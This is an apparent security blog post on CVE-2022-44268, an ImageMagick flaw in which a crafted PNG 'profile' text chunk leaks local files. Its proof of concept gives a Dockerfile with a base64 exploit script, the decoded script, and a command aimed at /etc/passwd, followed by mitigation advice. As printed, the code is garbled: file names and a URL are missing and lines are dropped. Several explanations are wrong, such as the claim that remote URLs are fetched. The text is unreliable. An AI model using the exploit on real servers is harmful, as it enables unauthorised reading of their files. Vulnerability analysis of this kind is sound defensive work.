CVE-2022-44268: Dissecting theImageMagick Arbitrary File Disclosure Vulnerability


CVE-2022-44268 is a critical vulnerability residing within ImageMagick, a popular open-source image processing library. This vulnerability exposes systems running affected versions of ImageMagick to informationdisclosure attacks. An attacker can potentially exploit this flaw to leak sensitive information from the underlying system. This blog post delves into the technical details of CVE-2022-44268, analyzing its exploit vector and potential mitigation strategies.

Vulnerability Breakdown

The vulnerability lies within ImageMagick's handling of PNG image parsing. When processing a PNG image, specifically during operations like resizing, the vulnerable code path mishandles embedded data chunks. Attackers add a textual chunk type (e.g., tEXt) in the image to be parsed. If the keyword is the string “profile” (without quotes) then ImageMagick will interpret the text string as a filename and will load the content as a raw profile. This mishandling can lead to the inclusion of arbitrary file content within the processed image.

Here's a deeper look at the exploit vector:

  • Malicious PNG Image: An attacker creates a specially crafted PNG image containing a hidden text chunk. This chunk might have the keyword "profile" (without quotes) followed by the URL of a remote filecontaining malicious code.

  • Image Processing: When your website processes the PNG image using ImageMagick (for resizing or other operations),

  • Information Disclosure: If ImageMagick has the necessary permissions, it could download the remote file's content and potentially embed it within the processed image. This could include sensitive information like server configuration files or database credentials.

Proof of Concept

To build a PoC lab, let's create a docker environment which has all the dependencies already installed. We can use the following Dockerfile to build this:

FROM ubuntu:20.04
RUN apt update --allow-insecure-repositories
RUN apt-get install pngcrush  -y --allow-unauthenticated
RUN apt-get install imagemagick  -y --allow-unauthenticated
RUN apt-get install  exiftool exiv2 wget -y --allow-unauthenticated
RUN apt-get install xxd -y   --allow-unauthenticated
RUN wget -O 1.png
RUN echo
'IyEvYmluL2Jhc2gKCmlmIFsgLXogIiQxIiBdOyB0aGVuCiAgICBmaWxlPSIvZXRjL3Bhc3N3ZCIKZWxzZQogICAgZmlsZT0iJDEiCmZpCgpwbmdjcnVzaCAtdGV4dCBhICJwcm9maWxlIiAiJGZpbGUiIDEucG5nIApleGl2MiAtcFMgcG5nb3V0LnBuZyAKY29udmVydCBwbmdvdXQucG5nIGdvcHJvLnBuZyAKCmlkZW50aWZ5IC12ZXJib3NlIGdvcHJvLnBuZyB8IGdyZXAgLWUgIl5bMC05YS1mXSokIiB8ICBncmVwIC4gfCB4eGQgLXIgLXAK' | base64 -d >
RUN chmod +x
CMD sleep infinity

Thestring we are appending in file is a base64 encoded string, could be decoded as:

if [ -z "$1" ]; then
pngcrush -text a "profile" "$file" 1.png
exiv2 -pS pngout.png
convert pngout.png gopro.png
identify -verbose gopro.png | grep -e "^[0-9a-f]*$" |  grep . | xxd -r -p

Here's the breakdown of this script:

  • The first line uses the pngcrush tool to process the specified $file. -text a "profile" injects a text chunk with the keyword "profile" and the value "a" into the image file. The processed image is saved as 1.png.

  • This next line uses the exiv2 tool, to strip metadata from the 1.png image and save the result as pngout.png.

  • Then the script uses the convert tool (from ImageMagick) to potentially convert the format or manipulate the pngout.png image and save the result as gopro.png.

  • The last command pipeline extracts and decodes specific information from the gopro.png image. It first uses identify to get detailed image data, then filters for lines containing only hexadecimal characters (potentially representing hidden data) using grep. Finally, xxd decodes this filtered hexadecimal data into a potentially readable format.

Once we are done with building the docker image, we can get a bash shell inside the container andexecute the script to get the content of the file we are targeting to read:

./ /etc/passwd


The successful exploitation of CVE-2022-44268 allows an attacker to potentiallyleak sensitive information from the victim's system. This information could include:

  • System configuration files (e.g., /etc/passwd) containing user credentials.

  • Application logs containing sensitive data.

  • Proprietary information stored on the system.

Mitigation Strategies

Here are some crucial steps to mitigate the risks associated with:

  • Update ImageMagick: The primary mitigation strategy involves upgrading ImageMagick to a patched version. The developers addressed this vulnerability in versions 7.1.0-50 and later. System administrators should prioritize updating ImageMagick installations to mitigate the vulnerability.

  • Restrict Permissions: Limiting the magick binary's file access permissions can significantly reduce the attack surface. Consider employing access control mechanisms to restrict the binary's ability to read sensitive files.

  • Input Validation: For applications that interact with user-uploaded images, implementing robust input validation is crucial. Sanitize image data to prevent the processing of malicious PNG chunks.

  • Security Awareness: Educating users about the risks associated with processing untrusted images can help prevent social engineering attacks that might trick users into processing malicious PNGs.


CVE-2022-44268 highlights the importance of maintaining up-to-date software and implementing security best practices. By promptly patching vulnerable software, enforcing least privilege principles, and validating user inputs, security professionals can significantly reduce the risk of exploitation.


The information presented in this blog post is foreducational purposes only. It is intended to raise awareness about the CVE-2022-44268 vulnerability and help mitigate the risks. It is not intended to be used for malicious purposes.

It's crucial to understand that messing around with vulnerabilities in live systems without permission is not just against the law, but it alsocomes with serious risks. This blog post does not support or encourage any activities that could help with such unauthorized actions.

CVE-2024-27316: A Deep Dive into the nghttp2 Header Overflow
CVE-2024-27316: A Deep Dive into the nghttp2 Header Overflow
James McGill
CVE-2024-36401: GeoServer and GeoTools - XPath Injection via commons-jxpath
CVE-2024-36401: GeoServer and GeoTools - XPath Injection via commons-jxpath
James McGill
A Deep Dive into CVE-2024-37032 (Ollama RCE Vulnerability)
A Deep Dive into CVE-2024-37032 (Ollama RCE Vulnerability)
James McGill
CVE-2024-28102: JWCrypto DoS Vulnerability
CVE-2024-28102: JWCrypto DoS Vulnerability
James McGill
CVE-2024-38355: Technical Analysis of Unhandled Exception in Socket.IO
CVE-2024-38355: Technical Analysis of Unhandled Exception in Socket.IO
James McGillCVE-2024-27348: Dissecting the RCEVulnerability in Apache HugeGraph Server
CVE-2024-27348: Dissecting the RCE Vulnerability in Apache HugeGraph Server
James McGill